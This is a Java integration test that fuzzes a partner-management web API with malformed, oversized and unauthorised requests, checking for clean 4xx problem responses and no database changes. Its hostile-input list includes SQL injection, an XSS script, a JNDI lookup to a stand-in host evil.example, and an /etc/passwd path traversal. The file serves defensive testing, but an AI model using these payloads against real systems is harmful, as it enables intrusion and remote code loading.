package org.partnerengine.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.partnerengine.PartnerEngineTest;
import org.partnerengine.AgreementSigning;
import org.partnerengine.Requests;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Hundreds of malformed requests, generated from a table of every endpoint with a valid example:
 * each required field missing, null, of the wrong type, too long, or full of unicode and
 * injection strings; extra fields, broken and oversized bodies, wrong media types and methods;
 * ids that are not numbers or do not exist; callers without the role. None may be a 5xx, every
 * error is a problem, and none may change the database.
 */
@PartnerEngineTest
class BadInputBatteryTest {

  static final String HUGE = "x".repeat(100_000);
  static final List<String> HOSTILE =
      List.of(
          "' OR '1'='1' --",
          "1; drop table partner; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "../../../etc/passwd",
          "\u202Eevil\u0000\uD83D\uDE00",
          "%00%0d%0a",
          "Ω≈ç√∫˜µ≤≥÷ 名前 اسم");
  static final Set<String> FREE_TEXT = Set.of("companyName", "contactName", "customerName", "activity", "reason", "proofOfPerformance", "title", "text", "question", "answer");

  @LocalServerPort int port;
  @Autowired JdbcTemplate jdbc;

  private final ObjectMapper json = new ObjectMapper();
  private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  private final List<String> failures = new ArrayList<>();
  private int sent;
  private long partnerId;
  private long taskId;

  /** An endpoint that takes a JSON body: who may call it, a valid body and its required fields. */
  record BodyEndpoint(String path, String user, Map<String, Object> valid, List<String> required, boolean bodyRequired) {
    BodyEndpoint(String path, String user, Map<String, Object> valid, List<String> required) {
      this(path, user, valid, required, true);
    }
  }

  @Test
  void malformedRequestsToEveryEndpointAreProblemsThatChangeNothing() throws Exception {
    partnerAwaitingOnboarding();

    for (BodyEndpoint endpoint : bodyEndpoints()) {
      bodyBattery(endpoint);
    }
    pathAndQueryBattery();
    roleBattery();

    System.out.printf("Bad input battery: %d malformed requests, %d failures%n", sent, failures.size());
    assertThat(failures).isEmpty();
    assertThat(sent).isGreaterThanOrEqualTo(500);
  }

  private List<BodyEndpoint> bodyEndpoints() {
    String partner = "/api/partners/" + partnerId;
    return List.of(
        new BodyEndpoint("/api/applications", null, Requests.application(),
            List.of("companyName", "partnerType", "country", "website", "contactName", "contactEmail", "annualRevenue", "employees")),
        new BodyEndpoint(partner + "/deals", "manager",
            Map.of("customerName", "Globex", "customerDomain", "globex.example", "amount", 50000, "currency", "EUR", "expectedCloseDate", "2027-01-31"),
            List.of("customerName", "customerDomain", "amount", "expectedCloseDate")),
        new BodyEndpoint(partner + "/mdf-requests", "manager",
            Map.of("activity", "Joint webinar", "amount", 500, "plannedDate", "2027-01-31"),
            List.of("activity", "amount", "plannedDate")),
        new BodyEndpoint("/api/mdf-requests/987654321/claims", "manager",
            Map.of("proofOfPerformance", "Attendee list", "amountClaimed", 400),
            List.of("proofOfPerformance", "amountClaimed")),
        new BodyEndpoint("/api/deals/987654321/outcome", "manager", Map.of("outcome", "WON", "amount", 1000), List.of("outcome")),
        new BodyEndpoint("/api/deals/987654321/co-sell", "manager", Map.of("help", "TECHNICAL_PRESALES", "neededBy", "2099-01-31"),
            List.of("help", "neededBy")),
        new BodyEndpoint("/api/deals/987654321/splits", "manager",
            Map.of("ownerSharePercent", 60, "coSellers", List.of(Map.of("partnerId", 1, "role", "SOURCED", "sharePercent", 40))),
            List.of("ownerSharePercent", "coSellers")),
        // The valid body names the catch-all's code: taken (409), so even unchanged it adds nothing.
        new BodyEndpoint("/api/regions", "manager",
            Map.of("code", "GLOBAL", "name", "Battery", "baseCurrency", "EUR", "defaultLocale", "en", "countries", List.of("AQ"),
                "approverGroups", List.of("approvers-battery")),
            List.of("code", "name", "baseCurrency", "defaultLocale", "countries", "approverGroups")),
        new BodyEndpoint(partner + "/training-completions", "manager", Map.of("courseId", "product-essentials"), List.of("courseId")),
        new BodyEndpoint(partner + "/exam-results", "manager", Map.of("examId", "core", "score", 80), List.of("examId", "score")),
        new BodyEndpoint(partner + "/offboarding", "manager", Map.of("reason", "contract ended"), List.of("reason")),
        // The valid body lacks the exam's pass mark, so even unchanged it adds nothing.
        new BodyEndpoint("/api/training-catalogue", "manager", Map.of("id", "battery-exam", "kind", "EXAM", "title", "Battery", "maxAttempts", 3),
            List.of("id", "kind", "title", "maxAttempts")),
        // Well formed but never taken: the hash is not the document's (422), nothing is signed to countersign (409).
        new BodyEndpoint(partner + "/agreement/signature", "manager", AgreementSigning.signature("0".repeat(64)),
            List.of("signerName", "signerTitle", "consent", "documentSha256")),
        new BodyEndpoint(partner + "/agreement/countersignature", "manager", Map.of("signerName", "Max", "signerTitle", "Head"),
            List.of("signerName", "signerTitle")),
        new BodyEndpoint("/api/tasks/" + taskId + "/complete", "manager",
            Map.of("variables", Map.of("kickoffHeldOn", "2026-03-02")), List.of("variables")),
        // Every variation of a lead is refused before anything is stored (free text is the company and contact name).
        new BodyEndpoint("/api/leads", "crm",
            Map.of("companyName", "Battery Ltd", "domain", "battery.example", "country", "DE", "productInterest", "core-platform",
                "contactName", "Bea", "contactEmail", "bea@battery.example", "source", "fair"),
            List.of("domain", "country", "productInterest", "contactEmail", "source")),
        new BodyEndpoint(partner + "/questions", "manager", Map.of("topic", "DEALS", "text", "May we register this deal?"), List.of("topic", "text")),
        new BodyEndpoint("/api/questions/987654321/faq", "manager", Map.of("question", "A question?", "answer", "An answer."),
            List.of("question", "answer")),
        new BodyEndpoint("/api/invitations/unknown-token-123", null, Map.of("password", "correct horse 42"), List.of("password")),
        new BodyEndpoint("/api/password-resets", null, Map.of("email", "nobody@battery.example"), List.of("email")),
        new BodyEndpoint("/api/password-resets/unknown-token-123", null, Map.of("password", "correct horse 42"), List.of("password")),
        new BodyEndpoint("/api/processes/partner-lifecycle/instances", "designer",
            Map.of("variables", Map.of("partnerId", partnerId)), List.of("variables"), false));
  }

  private void bodyBattery(BodyEndpoint endpoint) throws Exception {
    for (String field : endpoint.required()) {
      Object value = endpoint.valid().get(field);
      if (endpoint.bodyRequired()) {
        send("POST", endpoint.path(), endpoint.user(), without(endpoint.valid(), field));
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, null));
      }
      if (!(value instanceof Map<?, ?>)) {
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, Map.of("nested", 1)));
      }
      send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, List.of(1, 2)));
      if (value instanceof Number) {
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, "twelve"));
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, -1));
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, new java.math.BigDecimal("1e400")));
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, HOSTILE.get(0)));
      } else if (value instanceof String) {
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, HUGE));
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, ""));
        if (!FREE_TEXT.contains(field)) {
          for (String hostile : HOSTILE) {
            send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, hostile));
          }
        }
      } else if (value instanceof Map<?, ?>) {
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, "not an object"));
        send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, 42));
        if (endpoint.bodyRequired()) {
          send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), field, Map.of("unknownVariable", HOSTILE.get(1))));
        }
      }
    }
    send("POST", endpoint.path(), endpoint.user(), with(endpoint.valid(), "unexpectedField", "surprise"));
    List<String> broken = new ArrayList<>(List.of("[]", "{", "{\"a\":", "\"text\"", "{\"a\":1}{\"b\":2}"));
    if (endpoint.bodyRequired()) {
      broken.addAll(List.of("", "null", "{}"));
    }
    for (String raw : broken) {
      sendRaw("POST", endpoint.path(), endpoint.user(), "application/json", raw);
    }
    sendRaw("POST", endpoint.path(), endpoint.user(), "application/json", "{\"pad\":\"" + "y".repeat(300_000) + "\"}");
    sendRaw("POST", endpoint.path(), endpoint.user(), "text/plain", json.writeValueAsString(endpoint.valid()));
    sendRaw("POST", endpoint.path(), endpoint.user(), "application/xml", "<application/>");
    sendRaw("PUT", endpoint.path(), endpoint.user(), "application/json", json.writeValueAsString(endpoint.valid()));
    sendRaw("DELETE", endpoint.path(), endpoint.user(), null, null);
  }

  private void pathAndQueryBattery() throws Exception {
    List<String> badIds = List.of("abc", "-1", "0", "99999999999999999999", "1.5", "987654321", "%27%20OR%201=1", "%E2%80%AE");
    for (String id : badIds) {
      for (String path :
          List.of(
              "/api/partners/%s", "/api/partners/%s/history", "/api/partners/%s/tier-history", "/api/partners/%s/deals",
              "/api/partners/%s/mdf-requests", "/api/partners/%s/curriculum", "/api/partners/%s/notifications", "/api/training-catalogue/%s",
              "/api/tasks/%s", "/api/tasks/%s/form", "/api/process-instances/%s", "/api/territories/%s", "/api/partners/%s/coverage",
              "/api/partners/%s/leads", "/api/leads/%s/routing", "/api/partners/%s/banking-details", "/api/partners/%s/questions",
              "/api/questions/%s", "/api/partners/%s/agreement/signature", "/api/deals/%s/co-sell", "/api/deals/%s/splits",
              "/api/co-sell-requests/%s", "/api/deal-splits/%s")) {
        send("GET", path.formatted(id), path.contains("process-instances") ? "designer" : "manager", null);
      }
      send("GET", "/api/regions/" + id, "manager", null);
      send("GET", "/api/regions/" + id + "/mdf-budgets", "manager", null);
      send("GET", "/api/regions/" + id + "/totals?quarter=2026-Q4", "manager", null);
      send("POST", "/api/regions/" + id + "/launch", "manager", null);
      send("POST", "/api/tasks/" + id + "/claim", "manager", null);
      send("POST", "/api/tasks/" + id + "/unclaim", "manager", null);
      send("POST", "/api/deals/" + id + "/extension", "manager", null);
      send("POST", "/api/training-catalogue/" + id + "/retirement", "manager", null);
      send("POST", "/api/partners/" + id + "/tax-form", "manager", null);
      send("POST", "/api/partners/" + id + "/agreement/signature", "manager", AgreementSigning.signature("0".repeat(64)));
      send("GET", "/api/partners/" + id + "/agreement", "manager", null);
      send("POST", "/api/process-instances/" + id + "/incidents/" + id + "/resolve", "designer", null);
    }
    List<String> queries =
        List.of(
            "/api/partners?size=0", "/api/partners?size=101", "/api/partners?size=abc", "/api/partners?page=-1",
            "/api/partners?page=abc", "/api/partners?stage=NOPE", "/api/partners?type=NOPE", "/api/partners?q=" + "q".repeat(5000), "/api/tasks?state=NOPE",
            "/api/tasks?partnerId=abc", "/api/tasks?size=1000", "/api/process-instances?partnerId=abc",
            "/api/process-instances?size=-5", "/api/processes/no-such-process/xml", "/api/processes/partner-lifecycle/xml?version=abc",
            "/api/processes/partner-lifecycle/xml?version=999", "/api/partners/" + partnerId + "/deals?size=0",
            "/api/partners/" + partnerId + "/mdf-requests?page=abc",
            // A page past any offset a query can skip, on every paged list.
            "/api/partners?page=2147483647&size=100", "/api/tasks?page=2147483647&size=100",
            "/api/process-instances?page=2147483647&size=100", "/api/processes?page=2147483647&size=100",
            "/api/analytics/attention?kind=AT_RISK&page=2147483647&size=100",
            "/api/partners/" + partnerId + "/deals?page=2147483647&size=200",
            "/api/partners/" + partnerId + "/mdf-requests?page=2147483647&size=200",
            "/api/partners/" + partnerId + "/notifications?size=0", "/api/partners/" + partnerId + "/notifications?page=abc",
            "/api/partners/" + partnerId + "/notifications?page=2147483647&size=100",
            "/api/territories?size=0", "/api/territories?page=abc", "/api/territories?page=2147483647&size=100",
            "/api/leads?status=NOPE", "/api/leads?size=0", "/api/leads?page=2147483647&size=100",
            "/api/partners/" + partnerId + "/leads?size=101", "/api/partners/" + partnerId + "/leads?page=2147483647&size=100",
            // A region's totals: quarters that are not one, or that no database's datetime holds.
            "/api/regions/GLOBAL/totals?quarter=2026-Q5", "/api/regions/GLOBAL/totals?quarter=abc", "/api/regions/GLOBAL/totals?quarter=0000-Q1",
            "/api/regions/GLOBAL/totals?quarter=99999-Q1", "/api/regions/GLOBAL/totals?quarter=", "/api/regions/GLOBAL/totals?quarter=2026-Q1&quarter=2026-Q2",
            "/api/regions/GLOBAL/totals?quarter=%27%20OR%201=1", "/api/regions/GLOBAL/totals?quarter=" + "9".repeat(5000),
            "/api/regions/NO_SUCH/totals?quarter=2026-Q4");
    for (String query : queries) {
      send("GET", query, query.contains("process") ? "designer" : "manager", null);
    }
    send("POST", "/api/processes/no-such-process/instances", "designer", Map.of("variables", Map.of()));
    sendRaw("POST", "/api/deployments", "designer", "application/json", "{}");
    sendRaw("POST", "/api/deployments", "designer", "multipart/form-data; boundary=xyz", "--xyz--");
    sendRaw(
        "POST", "/api/deployments", "designer", "multipart/form-data; boundary=xyz",
        "--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"evil.exe\"\r\n\r\nMZ\r\n--xyz--\r\n");
    sendRaw(
        "POST", "/api/deployments", "designer", "multipart/form-data; boundary=xyz",
        "--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"broken.bpmn\"\r\n\r\n<not-bpmn\r\n--xyz--\r\n");
  }

  private void roleBattery() throws Exception {
    String partner = "/api/partners/" + partnerId;
    Map<String, List<String>> forbidden =
        Map.of(
            "GET /api/partners", List.of("designer"),
            "GET " + partner, List.of("designer"),
            "GET /api/tasks", List.of("training"),
            "GET /api/process-instances", List.of("approver"),
            "POST /api/deployments", List.of("manager", "approver"),
            "POST " + partner + "/offboarding", List.of("designer", "approver"),
            "POST /api/processes/partner-lifecycle/instances", List.of("manager", "approver"),
            "POST /api/tasks/" + taskId + "/complete", List.of("designer"));
    for (var entry : forbidden.entrySet()) {
      String method = entry.getKey().substring(0, entry.getKey().indexOf(' '));
      String path = entry.getKey().substring(method.length() + 1);
      Object body = method.equals("POST") ? Map.of("reason", "x", "variables", Map.of()) : null;
      send(method, path, null, body);
      send(method, path, "nobody-" + method, body);
      for (String user : entry.getValue()) {
        send(method, path, user, body);
        sendWithPassword(method, path, user, "wrong-password");
      }
    }
  }

  private void send(String method, String path, String user, Object body) throws Exception {
    sendRaw(method, path, user, body == null ? null : "application/json", body == null ? null : json.writeValueAsString(body));
  }

  private void sendWithPassword(String method, String path, String user, String password) throws Exception {
    exchange(method, path, user, password, null, null);
  }

  private void sendRaw(String method, String path, String user, String contentType, String body) throws Exception {
    exchange(method, path, user, user, contentType, body);
  }

  private void exchange(String method, String path, String user, String password, String contentType, String body) throws Exception {
    Map<String, Long> before = rowCounts();
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
            .timeout(Duration.ofSeconds(30))
            .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
    if (contentType != null) {
      request.header("Content-Type", contentType);
    }
    if (user != null) {
      request.header(
          "Authorization", "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8)));
    }
    HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    sent++;
    String what = method + " " + abbreviate(path) + " as " + user + " with " + abbreviate(String.valueOf(body));
    int status = response.statusCode();
    if (status >= 500) {
      failures.add(status + " for " + what + ": " + abbreviate(response.body()));
    } else if (status < 400) {
      failures.add("accepted (" + status + ") " + what);
    } else {
      String type = response.headers().firstValue("Content-Type").orElse("");
      if (!type.startsWith("application/problem+json")) {
        failures.add(status + " not a problem (" + type + ") for " + what);
      } else if (json.readTree(response.body()).path("status").asInt() != status) {
        failures.add(status + " problem without its status for " + what);
      }
    }
    Map<String, Long> after = rowCounts();
    if (!after.equals(before)) {
      failures.add("database changed by " + what + ": " + before + " -> " + after);
    }
  }

  private Map<String, Long> rowCounts() {
    Map<String, Long> counts = new LinkedHashMap<>();
    for (String table : List.of("partner", "deal", "mdf_request", "mdf_claim", "idempotent_request", "portal_account", "training_catalogue", "agreement_signature")) {
      counts.put(table, jdbc.queryForObject("select count(*) from " + table, Long.class));
    }
    counts.put("history", jdbc.queryForObject("select count(*) from partner_event where partner_id = ?", Long.class, partnerId));
    counts.put("open tasks", jdbc.queryForObject("select count(*) from user_task where partner_id = ? and state = 'CREATED'", Long.class, partnerId));
    return counts;
  }

  /** A fast-tracked applicant waiting in onboarding: its tasks are open and nothing moves until someone acts. */
  private void partnerAwaitingOnboarding() throws Exception {
    HttpResponse<String> created =
        http.send(
            HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/applications"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(json.writeValueAsString(Requests.application())))
                .build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(created.statusCode()).isEqualTo(201);
    partnerId = json.readTree(created.body()).get("partnerId").asLong();
    taskId =
        await()
            .atMost(Duration.ofSeconds(30))
            .until(
                () ->
                    jdbc.queryForList(
                        "select id from user_task where partner_id = ? and element_id = 'Task_HoldKickoffCall' and state = 'CREATED'",
                        Long.class,
                        partnerId),
                ids -> ids.size() == 1)
            .get(0);
    // Onboarding opens its branches together; wait until all of its tasks are in the inbox.
    await()
        .atMost(Duration.ofSeconds(30))
        .until(() -> jdbc.queryForObject("select count(*) from user_task where partner_id = ? and state = 'CREATED'", Long.class, partnerId) == 2);
  }

  private static Map<String, Object> with(Map<String, Object> valid, String field, Object value) {
    Map<String, Object> body = new LinkedHashMap<>(valid);
    body.put(field, value);
    return body;
  }

  private static Map<String, Object> without(Map<String, Object> valid, String field) {
    Map<String, Object> body = new LinkedHashMap<>(valid);
    body.remove(field);
    return body;
  }

  private static String abbreviate(String text) {
    return text.length() > 120 ? text.substring(0, 120) + "..." : text;
  }
}
